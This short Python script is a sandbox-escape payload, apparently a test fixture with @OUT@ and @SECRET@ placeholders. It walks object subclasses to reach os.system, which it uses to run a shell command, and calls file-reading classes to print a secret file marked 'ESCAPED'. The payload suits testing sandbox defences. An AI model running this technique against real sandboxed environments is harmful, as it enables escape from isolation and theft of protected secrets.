found = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ in ("Popen", "_wrap_close", "FileLoader", "FileIO")]
for c in found:
    if c.__name__ == "_wrap_close":
        c.__init__.__globals__["system"]("touch @OUT@/mro")
    if c.__name__ == "FileIO":
        print("ESCAPED", c("@SECRET@").read())
    if c.__name__ == "FileLoader":
        print("ESCAPED", c("x", "@SECRET@").get_data("@SECRET@"))
